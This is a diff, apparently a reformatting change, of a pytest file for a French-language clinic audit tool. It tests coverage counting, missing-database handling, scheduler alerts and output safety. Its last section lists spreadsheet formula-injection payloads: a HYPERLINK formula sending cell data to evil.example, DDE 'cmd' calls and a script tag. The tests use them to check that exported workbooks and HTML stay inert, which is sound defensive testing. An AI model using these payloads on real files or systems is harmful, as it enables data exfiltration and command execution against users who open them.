@@ -1,4 +1,4 @@
-"""The audit a clinic can trust unattended (SPEC §4, §5): coverage over owed
+"""The audit a clinic can trust unattended (docs/rules.md, counting; the command line in the README): coverage over owed
 items, no false green, reading never creates a database, what the data covers,
 made for schedulers, what-if equals audit, no empty runs, outputs safe to open."""
 
@@ -16,13 +16,14 @@ from pathlib import Path
 
 import pytest
 
-from conftest import DEMO, ORCHESTRATOR, ROOT, run_cli, snapshot, write_export
 from orchestrator_lib import store
 from orchestrator_lib.audit import run_audit
 from orchestrator_lib.demo import SERVICES
 from orchestrator_lib.history import list_runs
 from orchestrator_lib.load import load_export
 from orchestrator_lib.wizard import EXCLUDE, INACTIVE, TYPES, Wizard
+
+from conftest import DEMO, ROOT, run_cli, snapshot, write_export
 
 AS_OF = "2026-12-01T12:00"
 ADMIN = [f"SRV-{i:03d}" for i, service in enumerate(SERVICES, start=1) if service.admin]
@@ -61,11 +62,14 @@ def demo_decisions(db) -> dict:
     excluded; every other pending service typed with its reason."""
     wizard = Wizard(db, as_of=AS_OF)
     pending = [s.service_id for s in wizard.listed(EXCLUDE)]
-    return {"exclude": [sid for sid in pending if sid in ADMIN],
-            "types": {sid: [REASON.get(sid) or "suivi_regulier"] for sid in pending if sid not in ADMIN}}
+    return {
+        "exclude": [sid for sid in pending if sid in ADMIN],
+        "types": {sid: [REASON.get(sid) or "suivi_regulier"] for sid in pending if sid not in ADMIN},
+    }
 
 
 # --- the counting contract ----------------------------------------------------------------------------
+
 
 def test_demo_with_its_administrative_services_excluded_reaches_100_once_every_real_issue_is_fixed(tmp_path):
     """Excluding on purpose costs nothing: what is left to fix is only what the clinic really must fix."""
@@ -74,8 +78,9 @@ def test_demo_with_its_administrative_services_excluded_reaches_100_once_every_r
     def fix_staff(rows):  # the inactive physician activated, the missing one created in the EMR
         for row in rows:
             row["status"] = "active"
-        rows.append({**rows[0], "staff_id": "STF-099", "name": "Nouveau, Membre", "license": "1-99999",
-                     "responsible": "false"})
+        rows.append(
+            {**rows[0], "staff_id": "STF-099", "name": "Nouveau, Membre", "license": "1-99999", "responsible": "false"}
+        )
 
     def fix_services(rows):  # every service active in the EMR, the two deleted ones recreated
         for row in rows:
@@ -117,9 +122,17 @@ def test_excluded_items_are_reported_not_owed_and_never_the_top_problems(tmp_pat
 
 def empty_clinic(tmp_path, **tables) -> Path:
     db = tmp_path / "empty.duckdb"
-    load_export(write_export(tmp_path / "export", {
-        "appointments": "appointment_id,service_id,staff_id,start,end,status,patient_ref\n",
-        "availabilities": "availability_id,service_id,staff_id,start,end\n", **tables}), db)
+    load_export(
+        write_export(
+            tmp_path / "export",
+            {
+                "appointments": "appointment_id,service_id,staff_id,start,end,status,patient_ref\n",
+                "availabilities": "availability_id,service_id,staff_id,start,end\n",
+                **tables,
+            },
+        ),
+        db,
+    )
     return db
 
 
@@ -144,10 +157,17 @@ def load_demo(tmp_path) -> Path:
 # --- reading never creates ------------------------------------------------------------------------------
 
 READ_COMMANDS = [
-    ["audit", "--quarter", "2026Q3"], ["audit", "--quarter", "2026Q3", "--out", "{tmp}/out"],
-    ["services"], ["staff"], ["history"], ["undo"], ["explain", "SRV-001"],
-    ["sync", "--decisions", "{tmp}/d.json"], ["service", "activate", "SRV-001", "--type", "urgent"],
-    ["service", "exclude", "SRV-001"], ["dashboard", "--port", "1"],
+    ["audit", "--quarter", "2026Q3"],
+    ["audit", "--quarter", "2026Q3", "--out", "{tmp}/out"],
+    ["services"],
+    ["staff"],
+    ["history"],
+    ["undo"],
+    ["explain", "SRV-001"],
+    ["sync", "--decisions", "{tmp}/d.json"],
+    ["service", "activate", "SRV-001", "--type", "urgent"],
+    ["service", "exclude", "SRV-001"],
+    ["dashboard", "--port", "1"],
 ]
 
 
@@ -169,8 +189,12 @@ def test_library_reads_refuse_a_missing_database(tmp_path):
     from orchestrator_lib.errors import DatabaseMissingError
 
     missing = tmp_path / "typo.duckdb"
-    for read in (lambda: run_audit(missing, "2026Q3"), lambda: list_services(missing), lambda: Wizard(missing),
-                 lambda: list_runs(missing)):
+    for read in (
+        lambda: run_audit(missing, "2026Q3"),
+        lambda: list_services(missing),
+        lambda: Wizard(missing),
+        lambda: list_runs(missing),
+    ):
         with pytest.raises(DatabaseMissingError):
             read()
     assert not missing.exists()
@@ -192,22 +216,43 @@ def test_notebooks_see_the_project_database_when_run_from_the_notebooks_folder(t
     shutil.copytree(ROOT / "notebooks", project / "notebooks")
     load_export(DEMO, project / "data" / "orchestrator.duckdb")
     env = {k: v for k, v in __import__("os").environ.items() if not k.startswith("ORCHESTRATOR_")}
-    result = subprocess.run([sys.executable, "-m", "pytest", "--nbval-lax", "-q", "-p", "no:cacheprovider",
-                             "01_synchroniser_les_services.ipynb", "02_audit_remuneration.ipynb"],
-                            cwd=project / "notebooks", capture_output=True, text=True, timeout=300, env=env)
+    result = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "pytest",
+            "--nbval-lax",
+            "-q",
+            "-p",
+            "no:cacheprovider",
+            "01_synchroniser_les_services.ipynb",
+            "02_audit_remuneration.ipynb",
+        ],
+        cwd=project / "notebooks",
+        capture_output=True,
+        text=True,
+        timeout=300,
+        env=env,
+    )
     # Passing proves the project's database was found: a missing one is refused, never made empty.
     assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
     assert not (project / "notebooks" / "data").exists()
 
 
 def test_git_ignores_databases_and_keys_anywhere():
-    paths = ["notebooks/data/orchestrator.duckdb", "notebooks/data/orchestrator.duckdb.key", "x/y.duckdb.wal",
-             "notebooks/.ipynb_checkpoints/a.ipynb", "data/orchestrator.duckdb"]
+    paths = [
+        "notebooks/data/orchestrator.duckdb",
+        "notebooks/data/orchestrator.duckdb.key",
+        "x/y.duckdb.wal",
+        "notebooks/.ipynb_checkpoints/a.ipynb",
+        "data/orchestrator.duckdb",
+    ]
     result = subprocess.run(["git", "check-ignore", *paths], cwd=ROOT, capture_output=True, text=True)
     assert result.stdout.split() == paths
 
 
 # --- what the data covers ------------------------------------------------------------------------------
+
 
 def test_every_audit_says_what_data_it_saw(tmp_path):
     db = load_demo(tmp_path)
@@ -220,12 +265,17 @@ def test_every_audit_says_what_data_it_saw(tmp_path):
 
 
 def test_data_that_stops_before_the_quarter_ends_is_the_first_issue(tmp_path):
-    db = empty_clinic(tmp_path, appointments="appointment_id,service_id,staff_id,start\n"
-                                             "APT-1,SRV-1,STF-1,2026-07-02T09:00\nAPT-2,SRV-1,STF-1,2026-09-12T10:00\n")
+    db = empty_clinic(
+        tmp_path,
+        appointments="appointment_id,service_id,staff_id,start\n"
+        "APT-1,SRV-1,STF-1,2026-07-02T09:00\nAPT-2,SRV-1,STF-1,2026-09-12T10:00\n",
+    )
     result = run_audit(db, "2026Q3", as_of=AS_OF)
     assert result.issues[0]["kind"] == "data_ends_early" and result.issues[0]["detail"] == "2026-09-12"
-    assert "les données s'arrêtent le 12 septembre 2026 : le trimestre n'est pas complet" in \
-        result.issues[0]["action"].lower()
+    assert (
+        "les données s'arrêtent le 12 septembre 2026 : le trimestre n'est pas complet"
+        in result.issues[0]["action"].lower()
+    )
     # The same data seen from within the quarter: in progress, nothing to say about its end yet.
     assert run_audit(db, "2026Q3", as_of="2026-09-13T00:00").period == "in_progress"
     assert not [i for i in run_audit(db, "2026Q3", as_of="2026-09-13T00:00").issues if i["kind"] == "data_ends_early"]
@@ -248,14 +298,18 @@ def test_no_future_quarter_in_the_trend_and_the_current_one_marked(tmp_path):
 
 # --- made for schedulers --------------------------------------------------------------------------------
 
+
 def test_quiet_prints_nothing_when_all_is_well_and_alarms_first_when_not(tmp_path):
     db = load_demo(tmp_path)
     ok = cli("--db", str(db), "audit", "--quarter", "2026Q3", "--fail-under", "0", "--quiet")
     assert (ok.returncode, ok.stdout, ok.stderr) == (0, "", "")
     under = cli("--db", str(db), "audit", "--quarter", "2026Q3", "--fail-under", "95", "--quiet")
     assert under.returncode == 3
-    assert under.stderr.splitlines()[0] == "ALERTE 2026Q3 : couverture 0,0\u00a0%, sous le seuil de 95 % (0 comptés sur " \
+    assert (
+        under.stderr.splitlines()[0]
+        == "ALERTE 2026Q3 : couverture 0,0\u00a0%, sous le seuil de 95 % (0 comptés sur "
         + under.stderr.splitlines()[0].split("comptés sur ")[1]
+    )
     assert under.stdout  # the mail says what to fix
 
 
@@ -270,6 +324,7 @@ def test_summary_json_carries_status_threshold_time_and_data(tmp_path):
 
 
 # --- what-if equals audit ------------------------------------------------------------------------------
+
 
 @pytest.fixture(scope="module")
 def demo_template(tmp_path_factory) -> Path:
@@ -293,8 +348,11 @@ def random_decisions(rng: random.Random, db: Path, as_of: str) -> dict:
     inactive = [s.service_id for s in wizard.listed(INACTIVE) if rng.random() < 0.3]
     for sid in inactive:
         wizard.set_kept_inactive(sid)
-    types = {s.service_id: rng.sample(wizard.type_codes, rng.randint(1, 2))
-             for s in wizard.listed(TYPES) if rng.random() < 0.7}
+    types = {
+        s.service_id: rng.sample(wizard.type_codes, rng.randint(1, 2))
+        for s in wizard.listed(TYPES)
+        if rng.random() < 0.7
+    }
     return {"exclude": exclude, "inactive": inactive, "types": types}
 
 
@@ -334,6 +392,7 @@ def test_what_if_counts_what_kept_inactive_services_leave_uncounted(demo_templat
 
 # --- no empty runs ----------------------------------------------------------------------------------------
 
+
 def test_reapplying_the_same_decisions_succeeds_records_nothing_and_never_blocks_undo(demo_template, tmp_path):
     db = copy_db(demo_template, tmp_path / "clinic.duckdb")
     decisions = tmp_path / "decisions.json"
@@ -361,27 +420,42 @@ def test_a_wizard_with_nothing_to_change_records_no_run(demo_template, tmp_path)
 
 # --- outputs safe to open -------------------------------------------------------------------------------
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-           "-2+3+cmd|' /C calc'!A0", "<script>alert('x')</script>", "#N/A", "\tTab", "\rRetour"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "<script>alert('x')</script>",
+    "#N/A",
+    "\tTab",
+    "\rRetour",
+]
 
 
 @pytest.mark.slow
 def test_hostile_names_come_out_inert_in_the_workbook_and_the_html(tmp_path):
     services = "service_id,name,emr_status\n" + "".join(
-        f'SRV-{n},"{name.replace(chr(34), chr(34) * 2)}",active\n' for n, name in enumerate(HOSTILE, start=1))
+        f'SRV-{n},"{name.replace(chr(34), chr(34) * 2)}",active\n' for n, name in enumerate(HOSTILE, start=1)
+    )
     staff = "staff_id,name,status,specialty,responsible\n" + "".join(
         f'STF-{n},"{name.replace(chr(34), chr(34) * 2)}",inactive,Médecine familiale,false\n'
-        for n, name in enumerate(HOSTILE, start=1))
+        for n, name in enumerate(HOSTILE, start=1)
+    )
     appointments = "appointment_id,service_id,staff_id,start\n" + "".join(
-        f"APT-{n},SRV-{n},STF-{n},2026-08-0{1 + n % 8}T09:00\n" for n in range(1, len(HOSTILE) + 1))
+        f"APT-{n},SRV-{n},STF-{n},2026-08-0{1 + n % 8}T09:00\n" for n in range(1, len(HOSTILE) + 1)
+    )
     db, out = tmp_path / "hostile.duckdb", tmp_path / "report"
-    load_export(write_export(tmp_path / "export", {"services": services, "staff": staff,
-                                                   "appointments": appointments}), db)
+    load_export(
+        write_export(tmp_path / "export", {"services": services, "staff": staff, "appointments": appointments}), db
+    )
     result = cli("--db", str(db), "audit", "--quarter", "2026Q3", "--out", str(out), "--as-of", AS_OF)
     assert result.returncode == 0, result.stderr
     with zipfile.ZipFile(out / "audit-2026Q3.xlsx") as workbook:
-        sheets = [workbook.read(name).decode("utf-8") for name in workbook.namelist()
-                  if name.startswith("xl/worksheets/sheet")]
+        sheets = [
+            workbook.read(name).decode("utf-8")
+            for name in workbook.namelist()
+            if name.startswith("xl/worksheets/sheet")
+        ]
     assert sheets and all("<f>" not in sheet and "<f " not in sheet and 't="e"' not in sheet for sheet in sheets)
     import openpyxl
 
@@ -396,14 +470,15 @@ def test_hostile_names_come_out_inert_in_the_workbook_and_the_html(tmp_path):
 
 
 def test_control_characters_never_reach_a_workbook(tmp_path):
-    from openpyxl import Workbook
     import pandas as pd
+    from openpyxl import Workbook
 
     from orchestrator_lib.spreadsheet import write_table
 
     workbook = Workbook()
-    write_table(workbook.active, pd.DataFrame({"Nom": ["Dr\x00 Nul\x07 Bell", "=1+1"], "N": [1234567, 2]}),
-                title="T & titre")
+    write_table(
+        workbook.active, pd.DataFrame({"Nom": ["Dr\x00 Nul\x07 Bell", "=1+1"], "N": [1234567, 2]}), title="T & titre"
+    )
     workbook.save(tmp_path / "t.xlsx")  # openpyxl raises IllegalCharacterError on a raw NUL
     sheet = workbook.active
     assert sheet["A2"].value == "Dr  Nul  Bell" and sheet["B2"].number_format == "#,##0"
